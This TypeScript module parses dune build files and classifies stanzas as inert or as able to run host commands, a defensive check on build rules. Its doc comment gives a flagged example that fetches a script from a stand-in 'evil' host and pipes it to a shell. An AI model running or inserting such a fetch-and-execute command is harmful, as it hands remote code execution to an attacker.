/**
 * dune's language: a strict reader of dune s-expressions and the classification of the stanzas
 * a device contributes to `dune.build`. A stanza is *inert* when it has exactly one of the
 * shapes unik's standard plugins emit (crunch's and docteur's rules), with arguments that stay
 * inside the project and tools that are the expected ones; anything else could run a host
 * command at build time and needs the user's approval.
 *
 * ```ts
 * import { classifyStanza } from "unik/lib/validate/dune.ts";
 * classifyStanza("(rule (targets a.ml) (action (system \"curl evil | sh\")))");
 * // { kind: "host-command", reason: "action (system ...) is not one of the inert shapes ..." }
 * ```
 * @module
 */

import { checkFileName, checkProjectPath } from "./path.ts";

/** An s-expression as dune reads it. `offset` is where it starts in the text (0-based). */
export type Sexp =
  | { readonly kind: "atom"; readonly text: string; readonly offset: number }
  | { readonly kind: "string"; readonly value: string; readonly offset: number }
  | { readonly kind: "list"; readonly items: readonly Sexp[]; readonly offset: number };

/** Text that is not dune syntax unik accepts, with the offset of the problem. */
export class DuneSyntaxError extends Error {
  /** 0-based offset in the text. */
  readonly offset: number;

  /** An error at `offset`. */
  constructor(message: string, offset: number) {
    super(`${message} (at offset ${offset})`);
    this.name = "DuneSyntaxError";
    this.offset = offset;
  }
}

const BLANK = new Set([" ", "\t", "\n", "\r", "\f"]);
const ATOM_STOP = new Set([...BLANK, "(", ")", '"', ";"]);
const SIMPLE_ESCAPES: Readonly<Record<string, string>> = {
  n: "\n",
  t: "\t",
  b: "\b",
  r: "\r",
  "\\": "\\",
  '"': '"',
};

/** A `%{...}` template starting at `i` (on the `%`) in `text`; returns the index after `}`. */
function skipTemplate(text: string, i: number): number {
  const close = text.indexOf("}", i + 2);
  const body = close < 0 ? "" : text.slice(i + 2, close);
  if (close < 0 || !/^[A-Za-z0-9_.:\-+/=]*$/.test(body)) {
    throw new DuneSyntaxError("unterminated or malformed %{...} variable", i);
  }
  return close + 1;
}

function readString(text: string, start: number): { value: string; end: number } {
  let value = "";
  let i = start + 1;
  while (i < text.length) {
    const c = text[i];
    if (c === '"') return { value, end: i + 1 };
    const code = c.charCodeAt(0);
    if (code < 0x20 || code === 0x7f) {
      throw new DuneSyntaxError("control character in a string (use an escape)", i);
    }
    if (c === "%" && text[i + 1] === "{") {
      const end = skipTemplate(text, i);
      value += text.slice(i, end);
      i = end;
      continue;
    }
    if (c !== "\\") {
      value += c;
      i++;
      continue;
    }
    const e = text[i + 1];
    if (e !== undefined && e in SIMPLE_ESCAPES) {
      value += SIMPLE_ESCAPES[e];
      i += 2;
    } else if (/^[0-9]{3}$/.test(text.slice(i + 1, i + 4))) {
      const n = Number(text.slice(i + 1, i + 4));
      if (n > 255) throw new DuneSyntaxError("decimal escape above \\255", i);
      value += String.fromCharCode(n);
      i += 4;
    } else if (/^x[0-9A-Fa-f]{2}$/.test(text.slice(i + 1, i + 4))) {
      value += String.fromCharCode(parseInt(text.slice(i + 2, i + 4), 16));
      i += 4;
    } else if (e === "\n") {
      i += 2;
      while (text[i] === " " || text[i] === "\t") i++;
    } else {
      throw new DuneSyntaxError(`unsupported escape \\${e ?? ""} in a string`, i);
    }
  }
  throw new DuneSyntaxError("unterminated string", start);
}

function readAtom(text: string, start: number): { text: string; end: number } {
  if (text.startsWith("#|", start) || text.startsWith("#;", start)) {
    throw new DuneSyntaxError("block and s-expression comments are not accepted", start);
  }
  let i = start;
  while (i < text.length && !ATOM_STOP.has(text[i])) {
    const code = text.charCodeAt(i);
    if (code < 0x20 || code >= 0x7f) {
      throw new DuneSyntaxError("control or non-ASCII character in an atom", i);
    }
    i = text[i] === "%" && text[i + 1] === "{" ? skipTemplate(text, i) : i + 1;
  }
  return { text: text.slice(start, i), end: i };
}

/**
 * Reads `text` as a sequence of dune s-expressions (atoms, quoted strings, lists; `;` line
 * comments). Stricter than dune where dune's rules are obscure: block strings, block and
 * s-expression comments, control characters and unusual escapes are refused.
 * @throws {DuneSyntaxError} on anything unbalanced or unreadable.
 */
export function parseDune(text: string): Sexp[] {
  const top: Sexp[] = [];
  const stack: { items: Sexp[]; offset: number }[] = [];
  const push = (s: Sexp) => (stack.length ? stack[stack.length - 1].items : top).push(s);
  let i = 0;
  while (i < text.length) {
    const c = text[i];
    if (BLANK.has(c)) {
      i++;
    } else if (c === ";") {
      const nl = text.indexOf("\n", i);
      i = nl < 0 ? text.length : nl + 1;
    } else if (c === "(") {
      stack.push({ items: [], offset: i });
      i++;
    } else if (c === ")") {
      const list = stack.pop();
      if (!list) throw new DuneSyntaxError("unbalanced ')'", i);
      push({ kind: "list", items: list.items, offset: list.offset });
      i++;
    } else if (c === '"') {
      const s = readString(text, i);
      push({ kind: "string", value: s.value, offset: i });
      i = s.end;
    } else {
      const a = readAtom(text, i);
      push({ kind: "atom", text: a.text, offset: i });
      i = a.end;
    }
  }
  if (stack.length) throw new DuneSyntaxError("unbalanced '('", stack[stack.length - 1].offset);
  return top;
}

/**
 * Reads `text` as dune stanzas: {@link parseDune}, then every top-level value must be a list
 * headed by an atom (`(rule ...)`, `(executable ...)`). What a generator requires of any
 * stanza it writes, so that no text can unbalance the file or spill into the next stanza.
 * @throws {DuneSyntaxError} otherwise.
 */
export function parseStanzas(text: string): Sexp[] {
  const stanzas = parseDune(text);
  for (const s of stanzas) {
    if (s.kind !== "list" || s.items[0]?.kind !== "atom") {
      throw new DuneSyntaxError("a stanza must be a list starting with its name", s.offset);
    }
  }
  return stanzas;
}

/** The classification of a dune stanza text: see {@link classifyStanza}. */
export type StanzaClass =
  | { readonly kind: "inert" }
  | { readonly kind: "host-command"; readonly reason: string };

/** A refusal: why the stanza is not one of the inert shapes. */
class NotInert extends Error {}

function fail(reason: string): never {
  throw new NotInert(reason);
}

/** Shows an s-expression compactly, for reasons. */
function show(s: Sexp): string {
  if (s.kind === "atom") return s.text;
  if (s.kind === "string") return JSON.stringify(s.value);
  const head = s.items[0];
  return head?.kind === "atom" ? `(${head.text} ...)` : "(...)";
}

function atom(s: Sexp | undefined, what: string): string {
  if (s?.kind !== "atom") fail(`${what} must be a plain atom, not ${s ? show(s) : "missing"}`);
  return s.text;
}

/** An atom with no `%{...}` variable. */
function literal(s: Sexp | undefined, what: string): string {
  const text = atom(s, what);
  if (text.includes("%{")) fail(`${what} uses a dune variable (${text})`);
  return text;
}

/** What the classification knows of where the stanza lives. */
interface Where {
  /** How deep the stanza's directory is below the project root (how far `..` may climb). */
  readonly up: number;
}

/** A relative path that stays inside the project. */
function projectPath(s: Sexp | undefined, what: string, where: Where): string {
  const p = literal(s, what);
  const why = checkProjectPath(p, { up: where.up });
  if (why) fail(`${what} ${p} ${why}`);
  return p;
}

function fileName(s: Sexp | undefined, what: string): string {
  const f = literal(s, what);
  const why = checkFileName(f);
  if (why) fail(`${what} ${f} ${why}`);
  return f;
}

function isList(s: Sexp | undefined, head: string): s is Extract<Sexp, { kind: "list" }> {
  return s?.kind === "list" && s.items[0]?.kind === "atom" && s.items[0].text === head;
}

/** The fields of a rule stanza, each at most once. */
interface RuleFields {
  readonly targets: string[];
  readonly deps: readonly Sexp[];
  readonly action?: Sexp;
  readonly enabledIf?: Sexp;
}

const RULE_FIELDS = new Set(["targets", "target", "deps", "action", "enabled_if"]);

function ruleFields(stanza: Sexp): RuleFields {
  if (!isList(stanza, "rule")) {
    fail(`stanza ${show(stanza)} is not a rule of the shapes the standard plugins emit`);
  }
  const seen = new Map<string, readonly Sexp[]>();
  for (const field of stanza.items.slice(1)) {
    const head = field.kind === "list" ? field.items[0] : undefined;
    if (field.kind !== "list" || head?.kind !== "atom" || !RULE_FIELDS.has(head.text)) {
      fail(`rule field ${show(field)} is not one the standard plugins use`);
    }
    const key = head.text === "target" ? "targets" : head.text;
    if (seen.has(key)) fail(`rule field (${head.text} ...) appears twice`);
    if (head.text === "target" && field.items.length !== 2) fail("(target ...) takes one file");
    seen.set(key, field.items.slice(1));
  }
  const targetAtoms = seen.get("targets") ?? [];
  if (targetAtoms.length === 0) fail("rule has no targets");
  const action = seen.get("action");
  if (!action || action.length !== 1) fail("rule must have exactly one action");
  const enabledIf = seen.get("enabled_if");
  if (enabledIf && enabledIf.length !== 1) fail("(enabled_if ...) takes one condition");
  return {
    targets: targetAtoms.map((t) => fileName(t, "target")),
    deps: seen.get("deps") ?? [],
    action: action[0],
    enabledIf: enabledIf?.[0],
  };
}

/** A dependency the standard plugins (and their users' `extraDeps`) write. */
function checkPlainDep(dep: Sexp, where: Where): void {
  if (dep.kind === "atom") {
    projectPath(dep, "dependency", where);
  } else if (isList(dep, "source_tree") || isList(dep, "file")) {
    if (dep.items.length !== 2) fail(`dependency ${show(dep)} takes one path`);
    projectPath(dep.items[1], `dependency (${(dep.items[0] as { text: string }).text} ...)`, where);
  } else {
    fail(`dependency ${show(dep)} is not a file or (source_tree ...) in the project`);
  }
}

function runArgs(action: Sexp | undefined): readonly Sexp[] {
  if (!isList(action, "run")) {
    fail(
      `action ${action ? show(action) : "(none)"} is not one of the inert shapes ` +
        "((run ocaml-crunch ...) or docteur's (run %{make} ...))",
    );
  }
  return action.items.slice(1);
}

/** crunch: `(run ocaml-crunch -o M.ml DIR)` writing one of its targets from a project dir. */
function checkCrunch(rule: RuleFields, where: Where): void {
  const args = runArgs(rule.action);
  if (args.length !== 4 || literal(args[1], "ocaml-crunch option") !== "-o") {
    fail("ocaml-crunch must be run as: ocaml-crunch -o FILE DIR");
  }
  const out = fileName(args[2], "ocaml-crunch output");
  if (!rule.targets.includes(out)) fail(`ocaml-crunch writes ${out}, which is not a target`);
  projectPath(args[3], "crunched directory", where);
  if (rule.enabledIf) fail("crunch rules have no (enabled_if ...)");
  rule.deps.forEach((d) => checkPlainDep(d, where));
}

const DOCTEUR_MAKE = "%{bin:docteur.make}";

/** The remote docteur's make tool reads: a project directory or a remote repository. */
function checkDocteurRemote(remote: string, where: Where): void {
  const local = /^relativize:\/\/(.*)$/.exec(remote);
  if (local) {
    const why = checkProjectPath(local[1], { up: where.up });
    if (why) fail(`docteur remote directory ${local[1]} ${why}`);
  } else if (remote.startsWith("file:")) {
    fail(`docteur remote ${remote} reads files outside the project`);
  } else if (!/^(?:https|git|ssh):\/\/[A-Za-z0-9._~:/@+-]+$/.test(remote)) {
    fail(`docteur remote ${remote} is not relativize://DIR or an https, git or ssh URL`);
  }
}

/** docteur: `(run %{make} REMOTE [-b BRANCH] IMAGE)` with `%{make}` bound to docteur.make. */
function checkDocteur(rule: RuleFields, where: Where): void {
  const [tool, ...deps] = rule.deps;
  if (
    !isList(tool, ":make") || tool.items.length !== 2 ||
    atom(tool.items[1], "the :make dependency") !== DOCTEUR_MAKE
  ) {
    fail(`%{make} must be bound first in deps: (:make ${DOCTEUR_MAKE})`);
  }
  deps.forEach((d) => checkPlainDep(d, where));
  const e = rule.enabledIf;
  if (
    e === undefined || e.kind !== "list" || e.items.length !== 3 ||
    atom(e.items[0], "enabled_if operator") !== "=" ||
    atom(e.items[1], "enabled_if variable") !== "%{context_name}" ||
    e.items[2].kind !== "string" || e.items[2].value !== "default"
  ) {
    fail('docteur rules are enabled_if (= %{context_name} "default")');
  }
  const args = runArgs(rule.action).slice(1);
  const remote = literal(args[0], "docteur remote");
  checkDocteurRemote(remote, where);
  let rest = args.slice(1);
  if (rest.length === 3 && literal(rest[0], "docteur option") === "-b") {
    const branch = literal(rest[1], "docteur branch");
    if (!/^[A-Za-z0-9._/+][A-Za-z0-9._/+-]*$/.test(branch)) {
      fail(`docteur branch ${branch} is not a plain git ref name`);
    }
    rest = rest.slice(2);
  }
  if (rest.length !== 1) fail("docteur.make must be run as: %{make} REMOTE [-b BRANCH] IMAGE");
  const image = fileName(rest[0], "docteur image");
  if (rule.targets.length !== 1 || rule.targets[0] !== image) {
    fail(`the docteur rule must target exactly its image ${image}`);
  }
}

function checkStanza(stanza: Sexp, where: Where): void {
  const rule = ruleFields(stanza);
  const program = runArgs(rule.action)[0];
  const tool = atom(program, "the program run");
  if (tool === "ocaml-crunch") checkCrunch(rule, where);
  else if (tool === "%{make}") checkDocteur(rule, where);
  else fail(`(run ${tool} ...) runs a program other than ocaml-crunch or docteur.make`);
}

/**
 * Classifies a device's dune stanza text (one or more stanzas). `inert` means every stanza is
 * exactly a shape unik's standard plugins emit: crunch's `(rule (targets ...) (deps
 * (source_tree DIR)) (action (run ocaml-crunch -o FILE DIR)))` or docteur's image rule, with
 * relative paths inside the project, targets in the rule's own directory, no other tool, no
 * `system`/`bash`/`progn`, no `(mode ...)`, no extra dune variables. Anything else, including
 * text that does not parse, is `host-command`, with the reason.
 *
 * ```ts
 * classifyStanza(
 *   "(rule (targets s.ml s.mli) (deps (source_tree htdocs))" +
 *     " (action (run ocaml-crunch -o s.ml htdocs)))",
 * ); // { kind: "inert" }
 * ```
 */
export function classifyStanza(text: string): StanzaClass {
  return classifyStanzaIn(text, { up: 0 });
}

/**
 * {@link classifyStanza} for a stanza whose file is `where.up` directories below the project
 * root (`dune.build` of `app/config.ts` is 1 deep), so that paths may climb that far with `..`.
 */
export function classifyStanzaIn(text: string, where: { readonly up: number }): StanzaClass {
  const up = Number.isInteger(where.up) && where.up > 0 ? where.up : 0;
  let stanzas: Sexp[];
  try {
    stanzas = parseDune(text);
  } catch (e) {
    if (!(e instanceof DuneSyntaxError)) throw e;
    return { kind: "host-command", reason: `unparseable dune text: ${e.message}` };
  }
  if (stanzas.length === 0) return { kind: "host-command", reason: "contains no dune stanza" };
  try {
    stanzas.forEach((s) => checkStanza(s, { up }));
  } catch (e) {
    if (!(e instanceof NotInert)) throw e;
    return { kind: "host-command", reason: e.message };
  }
  return { kind: "inert" };
}
